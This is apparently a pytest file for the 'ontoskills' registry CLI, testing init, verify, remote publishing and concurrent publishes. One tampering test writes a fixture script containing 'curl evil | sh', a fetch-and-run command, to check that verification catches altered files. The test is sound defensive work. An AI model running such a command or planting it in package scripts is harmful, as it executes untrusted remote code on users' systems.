"""`registry init`, `registry verify`, pushing to a remote, concurrent publishes."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pygit2
import pytest

from tests.conftest import REPO, CliRunner

from .conftest import GIT_ENV, git, make_package, refs


@pytest.fixture
def cli(cli_inproc: CliRunner) -> CliRunner:
    """These tests are about what the verbs do and print: the CLI entry, in-process
    (tests/helpers/inproc.py); tests/cli/ runs the contract in real subprocesses."""
    return cli_inproc


def test_init_creates_a_git_registry_that_verifies(tmp_path: Path, cli: CliRunner) -> None:
    path = tmp_path / "reg"
    proc = cli("registry", "init", str(path), "--json", extra_env=GIT_ENV)
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    repo = pygit2.Repository(str(path))
    assert str(repo.head.target) == doc["commit"]
    assert json.loads((path / "index.json").read_text()) == {"packages": []}
    assert "ontoskills publish" in (path / "README.md").read_text()
    proc = cli("registry", "verify", str(path), "--json")
    assert proc.returncode == 0, proc.stderr
    summary = json.loads(proc.stdout)["summary"]
    assert summary == {
        "packages": 0,
        "skills": 0,
        "modules": 0,
        "files_checked": 0,
        "errors": 0,
        "warnings": 0,
    }
    again = cli("registry", "init", str(path))
    assert again.returncode == 2 and "not empty" in again.stderr


def test_verify_detects_tampering_and_strays(
    tmp_path: Path, cli: CliRunner, folder_registry: Path
) -> None:
    assert (
        cli("publish", str(make_package(tmp_path)), "--registry", str(folder_registry)).returncode
        == 0
    )
    ok = json.loads(cli("registry", "verify", str(folder_registry), "--json").stdout)
    # 3 generated files + the 2 SKILL.md sources, which stay in the package
    assert ok["ok"] and ok["summary"]["files_checked"] == 5 and ok["summary"]["skills"] == 2
    pkg = folder_registry / "packages" / "acme" / "tools"
    (pkg / "lint" / "scripts" / "run.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    (pkg / "lint" / "extra.txt").write_text("smuggled")
    proc = cli("registry", "verify", str(folder_registry), "--json")
    assert proc.returncode == 4
    doc = json.loads(proc.stdout)
    codes = {(f["code"], f["level"]) for f in doc["findings"]}
    assert ("hash-mismatch", "error") in codes and ("stray-file", "error") in codes
    assert doc["summary"]["errors"] == 2
    human = cli("registry", "verify", str(folder_registry))
    assert "lint/scripts/run.sh: sha256 does not match" in human.stderr
    assert "2 errors" in human.stderr


def test_verify_reports_unresolvable_entries(
    tmp_path: Path, cli: CliRunner, folder_registry: Path
) -> None:
    index = {
        "packages": [
            {
                "package_id": "ghost/pkg",
                "trust_tier": "community",
                "manifest_path": "packages/ghost/pkg/package.json",
            }
        ]
    }
    (folder_registry / "index.json").write_text(json.dumps(index))
    (folder_registry / "packages" / "orphan" / "x").mkdir(parents=True)
    (folder_registry / "packages" / "orphan" / "x" / "package.json").write_text("{}")
    doc = json.loads(cli("registry", "verify", str(folder_registry), "--json").stdout)
    codes = {f["code"] for f in doc["findings"]}
    assert "unresolved-entry" in codes and "unindexed" in codes and not doc["ok"]


def test_verify_real_ontostore_has_only_quirk_warnings(ontostore: Path, cli: CliRunner) -> None:
    proc = cli("registry", "verify", str(ontostore), "--json")
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    s = doc["summary"]
    assert s["errors"] == 0 and s["packages"] == 6 and s["skills"] == 51 and s["modules"] == 81
    codes = {f["code"] for f in doc["findings"]}
    assert codes == {"no-hashes", "unlisted-assets", "identifier-mismatch"}  # QUIRKS.md 1, 2, 5
    assert s["warnings"] == len(doc["findings"]) > 0


def test_publish_to_remote_pushes_a_branch(tmp_path: Path, cli: CliRunner) -> None:
    work = tmp_path / "work"
    assert cli("registry", "init", str(work), extra_env=GIT_ENV).returncode == 0
    bare = tmp_path / "remote.git"
    pygit2.clone_repository(str(work), str(bare), bare=True)
    before = refs(bare)
    pkg = make_package(tmp_path)
    url = bare.as_uri()
    dry = cli("publish", str(pkg), "--registry", url, "--dry-run", "--json", extra_env=GIT_ENV)
    assert dry.returncode == 0 and json.loads(dry.stdout)["branch"] is None
    assert refs(bare) == before, "a dry run pushes nothing"
    proc = cli("publish", str(pkg), "--registry", url, "--json", extra_env=GIT_ENV)
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["branch"] == "publish/acme/tools/1.0.0" and doc["target"] == "remote"
    after = refs(bare)
    assert after["refs/heads/main"] == before["refs/heads/main"], "main is for maintainers"
    assert after["refs/heads/publish/acme/tools/1.0.0"] == doc["commit"]
    files = git("ls-tree", "-r", "--name-only", doc["commit"], cwd=bare).split()
    assert "packages/acme/tools/lint/ontoskill.ttl" in files
    # --trust is for a registry you maintain, not for a pull-request branch
    proc = cli("publish", str(pkg), "--registry", url, "--trust", "official", extra_env=GIT_ENV)
    assert proc.returncode == 2 and "only to a registry you maintain" in proc.stderr
    # the same branch cannot be pushed twice with different content
    again = make_package(tmp_path, name="again")
    (again / "lint" / "notes.md").write_text("changed\n")
    from ontoskills.publish.pack import pack

    pack(again)
    proc = cli("publish", str(again), "--registry", url, extra_env=GIT_ENV)
    assert proc.returncode == 5 and "refused the push" in proc.stderr
    assert refs(bare)["refs/heads/publish/acme/tools/1.0.0"] == doc["commit"]


CONCURRENT = """
import sys
from pathlib import Path
from ontoskills.publish.publish import PublishOptions, publish
publish(Path(sys.argv[1]), PublishOptions(registry=sys.argv[2]))
"""


def test_concurrent_publishes_stay_consistent(tmp_path: Path, git_registry: Path) -> None:
    names = [f"team{i}/pkg-{chr(97 + i)}{i}" for i in range(6)]
    pkgs = [make_package(tmp_path, pid, name=f"c{i}") for i, pid in enumerate(names)]
    env = {**__import__("os").environ, **GIT_ENV, "PYTHONPATH": str(REPO)}
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", CONCURRENT, str(p), str(git_registry)],
            env=env,
            stderr=subprocess.PIPE,
            text=True,
        )
        for p in pkgs
    ]
    for p in procs:
        _, err = p.communicate(timeout=120)
        assert p.returncode == 0, err
    index = json.loads((git_registry / "index.json").read_text())
    assert [e["package_id"] for e in index["packages"]] == sorted(names)
    log = git("log", "--format=%s", cwd=git_registry).splitlines()
    assert len(log) == 7 and sorted(log[:6]) == sorted(f"Publish {n} 1.0.0" for n in names)
    assert not pygit2.Repository(str(git_registry)).status()
    assert not list((git_registry / "packages").rglob(".*")), "no staging leftovers"


def test_verify_over_git_url_and_http(
    tmp_path: Path,
    cli: CliRunner,
    git_registry: Path,
    httpserver,  # type: ignore[no-untyped-def]
) -> None:
    from tests.helpers.http import serve_folder

    pkg = make_package(tmp_path)
    assert (
        cli("publish", str(pkg), "--registry", str(git_registry), extra_env=GIT_ENV).returncode == 0
    )
    bare = tmp_path / "remote.git"
    pygit2.clone_repository(str(git_registry), str(bare), bare=True)
    doc = json.loads(cli("registry", "verify", bare.as_uri(), "--json").stdout)
    head = str(pygit2.Repository(str(git_registry)).head.target)
    assert doc["ok"] and doc["commit"] == head and doc["summary"]["files_checked"] == 5
    url = serve_folder(httpserver, git_registry)
    doc = json.loads(cli("registry", "verify", url, "--json").stdout)
    assert doc["ok"] and doc["summary"]["files_checked"] == 5 and doc["commit"] is None
    (git_registry / "packages/acme/tools/lint/ontoskill.ttl").write_text("tampered")
    proc = cli("registry", "verify", url, "--json")
    assert proc.returncode == 4
    codes = {f["code"] for f in json.loads(proc.stdout)["findings"]}
    assert "hash-mismatch" in codes and "turtle" in codes  # and the tampered module is invalid


def test_commit_author_precedence(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from ontoskills.publish.gitops import author_for, init_repo

    repo = init_repo(tmp_path / "r")
    repo.config["user.name"] = "Config Name"
    repo.config["user.email"] = "config@example.invalid"
    monkeypatch.delenv("GIT_AUTHOR_NAME", raising=False)
    monkeypatch.delenv("GIT_AUTHOR_EMAIL", raising=False)
    assert author_for(repo).name == "Config Name"
    monkeypatch.setenv("GIT_AUTHOR_NAME", "Env Name")
    monkeypatch.setenv("GIT_AUTHOR_EMAIL", "env@example.invalid")
    assert author_for(repo).name == "Env Name"
    assert author_for(repo, "Flag", "flag@example.invalid").email == "flag@example.invalid"


def test_no_author_anywhere_is_a_usage_error(
    tmp_path: Path, cli_process: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    for key in ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL"):
        monkeypatch.delenv(key, raising=False)
    nohome = str(tmp_path / "nohome")
    proc = cli_process(
        "registry",
        "init",
        str(tmp_path / "reg"),
        extra_env={"HOME": nohome, "XDG_CONFIG_HOME": nohome, "GIT_CONFIG_NOSYSTEM": "1"},
    )
    assert proc.returncode == 2 and "no git author" in proc.stderr
    assert "GIT_AUTHOR_NAME" in proc.stderr  # the hint names every way to set it


def test_a_non_empty_folder_is_reported_before_a_missing_author(
    tmp_path: Path, cli_process: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On a machine without a git identity the actionable error is the folder, not the author."""
    for key in ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL"):
        monkeypatch.delenv(key, raising=False)
    nohome = str(tmp_path / "nohome")
    taken = tmp_path / "taken"
    taken.mkdir()
    (taken / "notes.txt").write_text("mine\n")
    env = {"HOME": nohome, "XDG_CONFIG_HOME": nohome, "GIT_CONFIG_NOSYSTEM": "1"}
    proc = cli_process("registry", "init", str(taken), extra_env=env)
    assert proc.returncode == 2 and "not empty" in proc.stderr, proc.stderr
    assert "no git author" not in proc.stderr
    assert sorted(p.name for p in taken.iterdir()) == ["notes.txt"]
